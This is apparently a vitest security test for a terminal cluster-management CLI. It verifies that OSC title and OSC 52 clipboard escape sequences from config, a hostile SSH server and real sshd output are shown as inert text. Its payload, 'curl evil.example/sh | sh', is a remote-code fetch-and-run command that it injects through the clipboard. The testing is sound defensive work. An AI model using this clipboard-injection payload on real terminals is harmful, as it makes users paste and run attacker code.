/**
 * Issue 10 item 1, as the operator would meet it: the real `node bin/vacm.js` in a private tmux server
 * with `set-clipboard on` (so OSC 52 WOULD land in a paste buffer), a vacm.yaml whose cluster name and
 * variables carry OSC 0/2 (window title) and OSC 52 (clipboard: "curl evil.example/sh | sh"), a node
 * whose "sshd" DISCONNECTs with the payload, and a real sshd node printing it from `printf`. The pane
 * title stays what it was and no paste buffer appears; the payload is on the screen as ^[ text.
 * Runs under the peers lock: flock /tmp/vacm-peers.lock npx vitest run test/hostile/terminal-tmux.test.ts
 */
import fs from 'node:fs';
import path from 'node:path';
import ssh2 from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '../helpers/cli.js';
import { tempDir } from '../helpers/engine.js';
import { tmuxAvailable, tmuxSuite, type Tmux } from '../e2e/tmux.js';
import { sshdAvailable, startSshCluster, type SshCluster } from '../fixtures/sshd.js';
import { startEvilSsh, type EvilSsh } from './evil-ssh.js';

const CLIP = Buffer.from('curl evil.example/sh | sh').toString('base64');

describe.skipIf(!tmuxAvailable())('terminal escapes in tmux (needs tmux: apt-get install tmux)', () => {
  let dir: string;
  let conf: string;
  let evil: EvilSsh;
  const session = tmuxSuite({ before: async () => {
    dir = tempDir('vacm-term-tmux-');
    conf = path.join(dir, 'tmux.conf');
    // without this tmux ignores OSC 52 from applications; with it, the attack would land in a buffer
    fs.writeFileSync(conf, 'set -g set-clipboard on\nset -g allow-rename on\n');
    evil = await startEvilSsh(`Goodbye\x1b]0;PWNED\x07\x1b]52;c;${CLIP}\x07`);
  }, after: async () => {
    await evil?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  } });

  /** The pane title before anything ran, from a shell in the same server. */
  function titleBefore(t: Tmux): string {
    const title = t.paneTitle();
    expect(title).not.toContain('PWNED');
    return title;
  }

  it('config text (cluster name, variables) and an SSH DISCONNECT: title unchanged, no OSC 52 buffer', async () => {
    const key = path.join(dir, 'id_ed25519');
    fs.writeFileSync(key, ssh2.utils.generateKeyPairSync('ed25519').private, { mode: 0o600 });
    const yaml = path.join(dir, 'vacm.yaml');
    fs.writeFileSync(yaml, [
      'cluster: "lab\\e]0;PWNED\\a\\e]2;PWNED\\a"',
      'nodes:',
      `  - names: a1`,
      `    vars: { power: none, motd: "\\e]0;PWNED\\a\\e]52;c;${CLIP}\\a" }`,
      `  - names: evil01`,
      `    vars: { power: none, host: 127.0.0.1, ssh_port: ${evil.port}, ssh_identity: ${key}, ssh_known_hosts: ${path.join(dir, 'known_hosts')} }`,
      '',
    ].join('\n'));
    const t = session('term-cfg');
    // the shell sleeps first: the title is read before vacm draws anything
    t.start(`sleep 1; node bin/vacm.js --config ${yaml}`, { cwd: ROOT, env: { VACM_STATE_DIR: path.join(dir, 'state1') }, conf, columns: 200, rows: 50 });
    const before = titleBefore(t);
    let s = await t.waitFor((x) => x.includes('vacm · lab') && x.includes('motd='));
    expect(s).toContain('vacm · lab^[]0;PWNED^G^[]2;PWNED^G');
    expect(s).toContain(`motd=^[]0;PWNED^G^[]52;c;${CLIP}^G`);

    t.keys(':');
    await t.waitFor('Tab complete');
    t.type('SSH:EXEC:evil01:true');
    t.keys('Enter');
    await t.waitFor('CONFIRM');
    t.keys('y');
    s = await t.waitFor('Goodbye');
    expect(s).toContain('failed: Goodbye\\x1b]0;PWNED\\x07\\x1b]52;c');

    expect(t.paneTitle()).toBe(before);
    expect(t.buffers()).toBe('');
    t.keys('q');
    await t.waitFor('VACM_EXITED 0');
  }, 90_000);

  describe.skipIf(!sshdAvailable())('a real sshd node (needs root and openssh-server)', () => {
    let cluster: SshCluster;
    beforeAll(async () => {
      cluster = await startSshCluster({ count: 1 });
    }, 60_000);
    afterAll(async () => {
      await cluster?.stop();
    });

    it('`ls`-style output carrying OSC 0/2/52: the jobs pane shows report.txt and the payload as ^[ text; title unchanged, no buffer', async () => {
      const t = session('term-ssh');
      t.start(`sleep 1; node bin/vacm.js --config ${cluster.vacmYamlPath}`, { cwd: ROOT, env: { VACM_STATE_DIR: path.join(dir, 'state2') }, conf, columns: 200, rows: 50 });
      const before = titleBefore(t);
      await t.waitFor('node01');
      t.keys(':');
      await t.waitFor('Tab complete');
      t.type(`SSH:EXEC:node01:printf '\\033]0;PWNED\\007\\033]2;PWNED\\007\\033]52;c;${CLIP}\\007report.txt\\n'`);
      t.keys('Enter');
      await t.waitFor('CONFIRM');
      t.keys('y');
      const s = await t.waitFor((x) => /#\d+ ✔ \S+ \w+  SSH:EXEC:node01/.test(x) && x.includes('report.txt') && !x.includes('CONFIRM'));
      expect(s).toContain(`^[]0;PWNED^G^[]2;PWNED^G^[]52;c;${CLIP}^Greport.txt`);
      expect(t.paneTitle()).toBe(before);
      expect(t.buffers()).toBe('');
      t.keys('q');
      await t.waitFor('VACM_EXITED 0');
    }, 90_000);
  });
});
